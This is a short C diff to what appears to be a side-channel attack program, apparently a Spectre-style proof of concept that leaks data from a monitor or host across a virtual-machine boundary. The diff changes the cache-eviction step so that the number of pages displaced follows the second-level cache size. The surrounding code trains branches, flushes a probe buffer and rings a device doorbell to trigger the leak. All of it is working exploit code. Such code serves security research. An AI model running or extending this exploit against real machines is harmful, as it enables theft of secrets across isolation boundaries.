@@ -9,6 +9,7 @@
  */
 #include "attack.h"
 
+#include "evict.h"
 #include "machine.h"
 #include "monitor.h"
 #include "service.h"
@@ -24,6 +25,9 @@ static int monitor;
 static uint64_t branch, disclosure, slow, wanted;
 static int shown;
 
+/* Inside: how much displaces lines from the second level. More would displace the monitor's code, too, by page tables. */
+static long pages_to_displace;
+
 /* Inside: the probe, in the device's buffer. */
 static const uint8_t *const buffer = (const uint8_t *)MACHINE_BUFFER;
 
@@ -31,7 +35,7 @@ static void sample_inside(void)
 {
 	__asm__ volatile("out %%al, %0" : : "i"(DISK_PORT) : "memory");
 	forget_histories();
-	displace(slow, MACHINE_FREE_PAGES);
+	displace(slow, pages_to_displace);
 	train((const uint8_t *)branch, disclosure);
 	flush_probe(buffer);
 	*doorbell = wanted;
@@ -82,6 +86,9 @@ int main(int argc, char **argv)
 	branch = options.branches.at[0] - 1;
 	disclosure = options.disclosures.at[0];
 	slow = options.slow;
+	pages_to_displace = 2 * pages_for(_SC_LEVEL2_CACHE_SIZE, 2 << 20);
+	if (pages_to_displace > MACHINE_FREE_PAGES)
+		pages_to_displace = MACHINE_FREE_PAGES;
 	if (file < 0 || ftruncate(file, MACHINE_BYTES))
 		err(1, "memory");
 	machine_fill(&machine, file);
